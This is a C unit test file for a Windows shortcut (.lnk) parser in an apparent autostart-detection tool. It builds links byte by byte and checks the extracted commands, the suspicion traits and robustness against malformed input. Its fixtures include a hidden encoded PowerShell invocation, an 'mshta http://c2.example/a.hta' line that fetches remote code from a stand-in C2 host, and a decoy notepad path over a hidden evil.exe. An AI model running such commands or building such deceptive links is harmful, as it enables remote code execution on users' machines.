/* test_winauto.c - Windows shortcuts (tk_lnk_command, collect/winauto.h) built here byte by
 * byte from the Shell Link layout: a local target in UTF-16 and in the single-byte code page,
 * a share and the path under it, a target only in the environment-variable block, a relative
 * path, arguments without a target, an item id list alone; then what is not a link, counted
 * strings running past the end, every prefix of a valid link and every byte overwritten. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <string.h>

#include "collect/winauto.h"
#include "core/buf.h"
#include "core/err.h"
#include "core/le.h"

#define LINK_MAX (1 << 17)

struct link {
    unsigned char b[LINK_MAX];
    size_t n;
    uint32_t flags;
};

enum {
    ID_LIST = 0x1, LINK_INFO = 0x2, NAME = 0x4, RELATIVE = 0x8, WORKDIR = 0x10, ARGS = 0x20,
    UNICODE_ = 0x80, EXP = 0x200
};

static void add(struct link *l, const void *p, size_t n)
{
    assert_true(l->n + n <= LINK_MAX);
    memcpy(l->b + l->n, p, n);
    l->n += n;
}

static void add32(struct link *l, uint32_t v)
{
    unsigned char b[4];
    tk_put_le32(b, v);
    add(l, b, 4);
}

/* ASCII text as UTF-16LE (wide) or single bytes, with a terminating NUL when z. */
static void add_text(struct link *l, const char *s, bool wide, bool z)
{
    for (size_t i = 0; s[i] || z; i++) {
        unsigned char c[2] = { (unsigned char)s[i], 0 };
        add(l, c, wide ? 2 : 1);
        if (!s[i])
            break;
    }
}

static void header(struct link *l, uint32_t flags)
{
    static const unsigned char clsid[16] = { 0x01, 0x14, 0x02, 0, 0, 0, 0, 0,
                                             0xC0, 0, 0, 0, 0, 0, 0, 0x46 };
    memset(l, 0, sizeof *l);
    add32(l, 0x4C);
    add(l, clsid, 16);
    add32(l, flags);
    l->n = 0x4C;
    l->flags = flags;
}

/* LinkInfo with a local base path (wide adds the Unicode offsets and strings). */
static void info_local(struct link *l, const char *path, bool wide)
{
    size_t start = l->n;
    uint32_t hsize = wide ? 0x24 : 0x1C;
    add32(l, 0); /* size, patched below */
    add32(l, hsize);
    add32(l, 1);
    size_t offs = l->n;
    l->n += hsize - 12;
    uint32_t vol = (uint32_t)(l->n - start);
    add32(l, 17);
    add32(l, 3);
    add32(l, 0x1234);
    add32(l, 16);
    add(l, "", 1);
    uint32_t local = (uint32_t)(l->n - start);
    add_text(l, path, false, true);
    uint32_t suffix = (uint32_t)(l->n - start);
    add(l, "", 1);
    tk_put_le32(l->b + offs, vol);
    tk_put_le32(l->b + offs + 4, local);
    tk_put_le32(l->b + offs + 8, 0);
    tk_put_le32(l->b + offs + 12, suffix);
    if (wide) {
        tk_put_le32(l->b + offs + 16, (uint32_t)(l->n - start));
        add_text(l, path, true, true);
        tk_put_le32(l->b + offs + 20, (uint32_t)(l->n - start));
        add_text(l, "", true, true);
    }
    tk_put_le32(l->b + start, (uint32_t)(l->n - start));
}

/* LinkInfo naming a share and the path under it. */
static void info_share(struct link *l, const char *share, const char *suffix)
{
    size_t start = l->n;
    add32(l, 0);
    add32(l, 0x1C);
    add32(l, 2);
    add32(l, 0);
    add32(l, 0);
    add32(l, 0x1C); /* the network link right after the header */
    size_t suffix_at = l->n;
    add32(l, 0);
    add32(l, (uint32_t)(0x14 + strlen(share) + 1));
    add32(l, 0);
    add32(l, 0x14);
    add32(l, 0);
    add32(l, 0);
    add_text(l, share, false, true);
    tk_put_le32(l->b + suffix_at, (uint32_t)(l->n - start));
    add_text(l, suffix, false, true);
    tk_put_le32(l->b + start, (uint32_t)(l->n - start));
}

static void counted(struct link *l, const char *s)
{
    unsigned char c[2];
    tk_put_le16(c, (uint32_t)strlen(s));
    add(l, c, 2);
    add_text(l, s, l->flags & UNICODE_, false);
}

static void env_block(struct link *l, const char *target)
{
    size_t start = l->n;
    add32(l, 8 + 260 + 520);
    add32(l, 0xA0000001u);
    add_text(l, target, false, true);
    l->n = start + 8 + 260;
    add_text(l, target, true, true);
    l->n = start + 8 + 260 + 520;
}

static void end(struct link *l)
{
    add32(l, 0);
}

/* The command the link runs, or "" with *rc set. */
static const char *command(const struct link *l, int *rc)
{
    static struct tk_buf out = TK_BUF_INIT(1 << 18);
    tk_buf_reset(&out);
    *rc = tk_lnk_command(l->b, l->n, &out);
    return tk_buf_cstr(&out);
}

static void test_local_unicode(void **state)
{
    (void)state;
    struct link l;
    int rc;
    header(&l, LINK_INFO | WORKDIR | ARGS | UNICODE_);
    info_local(&l, "C:\\Program Files\\Vendor\\app.exe", true);
    counted(&l, "C:\\Windows");
    counted(&l, "-w hidden -enc SQBFAFgA");
    end(&l);
    assert_string_equal(command(&l, &rc), "\"C:\\Program Files\\Vendor\\app.exe\" -w hidden -enc SQBFAFgA");
    assert_int_equal(rc, 0);
    assert_string_equal(tk_autostart_trait(command(&l, &rc), false), "encoded-exec");
}

static void test_local_ansi(void **state)
{
    (void)state;
    struct link l;
    int rc;
    header(&l, ID_LIST | LINK_INFO | NAME | ARGS);
    unsigned char ids[2 + 22] = { 22, 0, 20, 0 }; /* one opaque item and the terminator */
    add(&l, ids, sizeof ids);
    info_local(&l, "C:\\Users\\Public\\r\xe9sum\xe9.exe", false);
    counted(&l, "a comment");
    counted(&l, "/quiet");
    end(&l);
    assert_string_equal(command(&l, &rc), "C:\\Users\\Public\\r?sum?.exe /quiet");
    assert_int_equal(rc, 0);
    assert_string_equal(tk_autostart_trait(command(&l, &rc), false), "tmp-path");
}

/* A part the link does not use cannot hide the one it does by its size: a relative path of
 * 44,000 CJK characters (132,000 bytes of UTF-8) next to a LinkInfo target. */
static void test_long_unused_part(void **state)
{
    (void)state;
    static struct link l;
    int rc;
    header(&l, LINK_INFO | RELATIVE | ARGS | UNICODE_);
    info_local(&l, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", true);
    unsigned char c[2];
    tk_put_le16(c, 44000);
    add(&l, c, 2);
    for (int i = 0; i < 44000; i++)
        add(&l, "\x00\x4e", 2); /* U+4E00 */
    counted(&l, "-w hidden -enc SQBFAFgA");
    end(&l);
    assert_string_equal(command(&l, &rc),
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w "
                        "hidden -enc SQBFAFgA");
    assert_int_equal(rc, 0);
}

static void test_share(void **state)
{
    (void)state;
    struct link l;
    int rc;
    header(&l, LINK_INFO | UNICODE_);
    info_share(&l, "\\\\fileserver\\tools", "sync\\run.cmd");
    end(&l);
    assert_string_equal(command(&l, &rc), "\\\\fileserver\\tools\\sync\\run.cmd");
    assert_int_equal(rc, 0);
}

static void test_env_relative_args(void **state)
{
    (void)state;
    struct link l;
    int rc;
    /* only the environment-variable block names the target */
    header(&l, EXP | UNICODE_);
    env_block(&l, "%TEMP%\\svc.exe");
    end(&l);
    assert_string_equal(command(&l, &rc), "%TEMP%\\svc.exe");
    assert_int_equal(rc, 0);
    /* a link that says it uses its block runs what the block names; the other targets
     * follow when they differ; the relative path is the last resort */
    header(&l, LINK_INFO | RELATIVE | EXP | UNICODE_);
    info_local(&l, "C:\\Windows\\notepad.exe", true);
    counted(&l, "..\\..\\x.exe");
    env_block(&l, "%windir%\\notepad.exe");
    end(&l);
    assert_string_equal(command(&l, &rc), "%windir%\\notepad.exe (also C:\\Windows\\notepad.exe)");
    header(&l, LINK_INFO | UNICODE_);
    info_local(&l, "C:\\Windows\\notepad.exe", true);
    end(&l);
    assert_string_equal(command(&l, &rc), "C:\\Windows\\notepad.exe");
    header(&l, RELATIVE | UNICODE_);
    counted(&l, ".\\tool.exe");
    end(&l);
    assert_string_equal(command(&l, &rc), ".\\tool.exe");
    /* arguments without a target are still judged */
    header(&l, ARGS);
    counted(&l, "mshta http://c2.example/a.hta");
    assert_string_equal(command(&l, &rc), "mshta http://c2.example/a.hta");
    assert_int_equal(rc, 0);
    /* an item id list alone names nothing this reader resolves */
    header(&l, ID_LIST);
    unsigned char ids[4] = { 2, 0, 0, 0 };
    add(&l, ids, sizeof ids);
    command(&l, &rc);
    assert_int_equal(rc, TK_ENOENT);
}

/* An item id list: a volume item, then file entry items with their primary names. */
static void id_list(struct link *l, const char *const *names, size_t n)
{
    size_t start = l->n;
    l->n += 2;
    unsigned char vol[25] = { 25, 0, 0x2F, 'C', ':', '\\' };
    add(l, vol, sizeof vol);
    for (size_t i = 0; i < n; i++) {
        unsigned char it[64] = { 0 };
        size_t len = strlen(names[i]);
        size_t size = 14 + len + 1 + ((14 + len + 1) & 1);
        tk_put_le16(it, (uint32_t)size);
        it[2] = i + 1 < n ? 0x31 : 0x32; /* a directory, then the file */
        memcpy(it + 14, names[i], len);
        add(l, it, size);
    }
    unsigned char z[2] = { 0, 0 };
    add(l, z, 2);
    tk_put_le16(l->b + start, (uint32_t)(l->n - start - 2));
}

static void test_id_list(void **state)
{
    (void)state;
    struct link l;
    int rc;
    static const char *const names[] = { "Users", "Public", "evil.exe" };
    /* the id list alone */
    header(&l, ID_LIST | UNICODE_);
    id_list(&l, names, 3);
    end(&l);
    assert_string_equal(command(&l, &rc), "C:\\Users\\Public\\evil.exe");
    /* a harmless LinkInfo path over the id list the shell would run: both are shown, and
     * the hidden one is what the traits see */
    header(&l, ID_LIST | LINK_INFO | ARGS | UNICODE_);
    id_list(&l, names, 3);
    info_local(&l, "C:\\Windows\\notepad.exe", true);
    counted(&l, "/s");
    end(&l);
    assert_string_equal(command(&l, &rc), "C:\\Windows\\notepad.exe /s (also C:\\Users\\Public\\evil.exe)");
    assert_string_equal(tk_autostart_trait(command(&l, &rc), false), "tmp-path");
    /* the same target written both ways is shown once, 8.3 short names included */
    static const char *const same[] = { "Windows", "notepad.exe" };
    header(&l, ID_LIST | LINK_INFO | UNICODE_);
    id_list(&l, same, 2);
    info_local(&l, "C:\\Windows\\NOTEPAD.EXE", true);
    end(&l);
    assert_string_equal(command(&l, &rc), "C:\\Windows\\NOTEPAD.EXE");
    static const char *const shortened[] = { "PROGRA~1", "WINDOW~1", "POWERS~1.EXE" };
    header(&l, ID_LIST | LINK_INFO | UNICODE_);
    id_list(&l, shortened, 3);
    info_local(&l, "C:\\Program Files\\WindowsPowerShell\\powershell.exe", true);
    end(&l);
    assert_string_equal(command(&l, &rc), "\"C:\\Program Files\\WindowsPowerShell\\powershell.exe\"");
    /* ... but not a short name of another name */
    static const char *const other[] = { "PROGRA~1", "EVILAP~1.EXE" };
    header(&l, ID_LIST | LINK_INFO | UNICODE_);
    id_list(&l, other, 2);
    info_local(&l, "C:\\Program Files\\notepad.exe", true);
    end(&l);
    assert_string_equal(command(&l, &rc), "\"C:\\Program Files\\notepad.exe\" (also C:\\PROGRA~1\\EVILAP~1.EXE)");
}

static void test_hostile(void **state)
{
    (void)state;
    struct link l;
    int rc;
    /* not a shell link */
    memset(&l, 0, sizeof l);
    add(&l, "L\0\0\0", 4);
    command(&l, &rc);
    assert_int_equal(rc, TK_EPARSE);
    header(&l, 0);
    l.b[4] ^= 1; /* another CLSID */
    command(&l, &rc);
    assert_int_equal(rc, TK_EPARSE);
    /* a counted string longer than the file */
    header(&l, ARGS | UNICODE_);
    unsigned char c[2] = { 0xff, 0xff };
    add(&l, c, 2);
    add_text(&l, "abc", true, false);
    command(&l, &rc);
    assert_int_equal(rc, TK_EPARSE);
    /* LinkInfo whose size runs past the end, and offsets aimed outside it */
    header(&l, LINK_INFO | UNICODE_);
    info_local(&l, "C:\\x.exe", true);
    tk_put_le32(l.b + 0x4C, 0x7fffffff);
    command(&l, &rc);
    assert_int_equal(rc, TK_EPARSE);
    header(&l, LINK_INFO | UNICODE_);
    info_local(&l, "C:\\x.exe", true);
    for (size_t off = 12; off < 0x24; off += 4)
        tk_put_le32(l.b + 0x4C + off, 0xfffffff0u);
    command(&l, &rc);
    assert_true(rc == 0 || rc == TK_ENOENT);
    /* every prefix and every byte overwritten of a complete link: an answer, never a
     * read past the bytes given (ASan watches) */
    struct link full;
    header(&full, ID_LIST | LINK_INFO | NAME | WORKDIR | ARGS | UNICODE_ | EXP);
    static const char *const names[] = { "Users", "Public", "evil.exe" };
    id_list(&full, names, 3);
    info_local(&full, "C:\\Program Files\\Vendor\\app.exe", true);
    counted(&full, "name");
    counted(&full, "C:\\");
    counted(&full, "--flag");
    env_block(&full, "%ProgramFiles%\\Vendor\\app.exe");
    end(&full);
    for (size_t n = 0; n <= full.n; n++) {
        struct link p = full;
        p.n = n;
        command(&p, &rc);
        assert_true(rc == 0 || rc == TK_EPARSE || rc == TK_ENOENT);
    }
    for (size_t i = 0; i < full.n; i++)
        for (int v = 0; v < 3; v++) {
            struct link p = full;
            p.b[i] = v == 0 ? 0x00 : v == 1 ? 0xff : (unsigned char)(p.b[i] ^ 0x80);
            command(&p, &rc);
            assert_true(rc == 0 || rc == TK_EPARSE || rc == TK_ENOENT);
        }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_local_unicode),
        cmocka_unit_test(test_local_ansi),
        cmocka_unit_test(test_share),
        cmocka_unit_test(test_long_unused_part),
        cmocka_unit_test(test_env_relative_args),
        cmocka_unit_test(test_id_list),
        cmocka_unit_test(test_hostile),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
